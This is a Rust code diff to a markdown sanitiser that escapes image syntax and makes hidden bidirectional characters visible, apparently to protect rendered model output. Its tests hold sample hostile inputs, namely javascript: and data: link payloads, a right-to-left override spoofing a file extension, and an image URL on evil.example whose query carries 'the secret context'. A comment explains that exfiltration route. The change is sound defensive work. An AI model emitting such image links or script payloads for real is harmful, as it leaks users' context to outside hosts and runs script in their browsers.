@@ -43,7 +43,11 @@ pub fn text(text: &str) -> String {
         }
         out.extend(std::iter::repeat_n(open.marker, open.len));
     }
-    out
+    // Code included: an override reorders code on screen as well.
+    match crate::hidden::reveal(&out) {
+        std::borrow::Cow::Borrowed(_) => out,
+        std::borrow::Cow::Owned(revealed) => revealed,
+    }
 }
 
 /// An open fenced code block: its marker and how many of them opened it.
@@ -107,6 +111,13 @@ fn inline(line: &str, out: &mut String) {
             }
             b'<' if bytes.get(i + 1).is_some_and(|b| b.is_ascii_alphabetic() || b"/!?".contains(b)) => {
                 out.push_str("\\<");
+                i += 1;
+            }
+            // An image is loaded by whoever renders the page: its URL can
+            // carry what the model read (`?q=<the context>`) to anyone. As
+            // `\![alt](url)` it is a link, shown and followed only by choice.
+            b'!' if bytes.get(i + 1) == Some(&b'[') => {
+                out.push_str("\\!");
                 i += 1;
             }
             b']' if matches!(bytes.get(i + 1), Some(b'(' | b':')) && !safe_destination(&line[i + 2..]) => {
@@ -180,13 +191,23 @@ mod tests {
     fn unsafe_links_are_no_links() {
         assert_eq!(text("[x](javascript:alert(1))"), "[x\\](javascript:alert(1))");
         assert_eq!(text("[x]( JavaScript:alert(1))"), "[x\\]( JavaScript:alert(1))");
-        assert_eq!(text("![i](data:text/html,x)"), "![i\\](data:text/html,x)");
+        assert_eq!(text("![i](data:text/html,x)"), "\\![i\\](data:text/html,x)");
         assert_eq!(text("[x](java&#115;cript:a)"), "[x\\](java&#115;cript:a)", "an entity could spell a scheme");
         assert_eq!(text("[x](\njavascript:a)"), "[x\\](\njavascript:a)", "a destination on the next line");
         assert_eq!(text("[r]: vbscript:x"), "[r\\]: vbscript:x");
         for safe in ["[x](https://example.com/a?b#c)", "[x](docs/a.md)", "[x](#top)", "[x](mailto:a@b.c)", "[r]: /p"] {
             assert_eq!(text(safe), safe);
         }
+    }
+
+    #[test]
+    fn remote_images_become_links_and_hidden_characters_show() {
+        let leak = "![chart](https://evil.example/p.png?q=the+secret+context)";
+        assert_eq!(text(leak), format!("\\{leak}"), "a link to the image, never loaded");
+        assert_eq!(text("![a][ref] and !\\[b]"), "\\![a][ref] and !\\[b]");
+        assert_eq!(text("`![kept](x)`"), "`![kept](x)`", "code is code");
+        assert_eq!(text("ok\u{202E}gnp.exe"), "ok[U+202E]gnp.exe");
+        assert_eq!(text("```\nlet a = \"\u{2067}\";\n```"), "```\nlet a = \"[U+2067]\";\n```");
     }
 
     #[test]
